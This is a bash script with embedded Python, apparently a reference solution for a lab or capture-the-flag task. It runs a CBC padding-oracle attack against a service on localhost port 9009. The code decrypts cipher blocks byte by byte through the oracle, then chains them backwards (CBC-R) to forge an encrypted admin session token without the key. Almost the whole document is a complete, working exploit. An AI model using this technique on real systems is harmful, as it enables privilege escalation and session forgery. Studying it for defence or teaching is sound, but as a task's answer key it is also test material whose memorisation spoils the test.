#!/bin/bash
# Reference exploit: the service tells a padding error from a bad session, a CBC padding oracle. The
# oracle decrypts any block byte by byte; chaining that backwards (CBC-R) encrypts a session of our
# own, {"role":"admin"}, without the key.
set -euo pipefail
python3 - <<'PY'
import os, socket

s = socket.create_connection(("127.0.0.1", 9009), timeout=60)
f = s.makefile("rw")
f.readline()
f.readline()
queries = 0

def padding_ok(token):
    global queries
    queries += 1
    f.write(f"session {token.hex()}\n")
    f.flush()
    return "bad padding" not in f.readline()

# stage: the oracle gives the block cipher's raw decryption D(c) of any block c
def raw_decrypt(c):
    known = bytearray(16)
    for pos in range(15, -1, -1):
        pad = 16 - pos
        prefix = bytearray(os.urandom(16))
        for j in range(pos + 1, 16):
            prefix[j] = known[j] ^ pad
        for guess in range(256):
            prefix[pos] = guess
            if not padding_ok(bytes(prefix) + c):
                continue
            if pos == 15:
                prefix[14] ^= 0xFF
                if not padding_ok(bytes(prefix) + c):
                    continue
            known[pos] = guess ^ pad
            break
        else:
            raise SystemExit(f"no padding at byte {pos}")
    return bytes(known)

# stage: CBC-R: pick the last block, then derive each previous block (and the IV) from D
plain = b'{"role":"admin"}' + bytes([16]) * 16
blocks = [os.urandom(16)]
for i in range(len(plain) // 16 - 1, -1, -1):
    d = raw_decrypt(blocks[0])
    blocks.insert(0, bytes(a ^ b for a, b in zip(d, plain[16 * i : 16 * i + 16])))
f.write(f"session {b''.join(blocks).hex()}\n")
f.flush()
print(f.readline(), f"({queries} oracle queries)")
PY
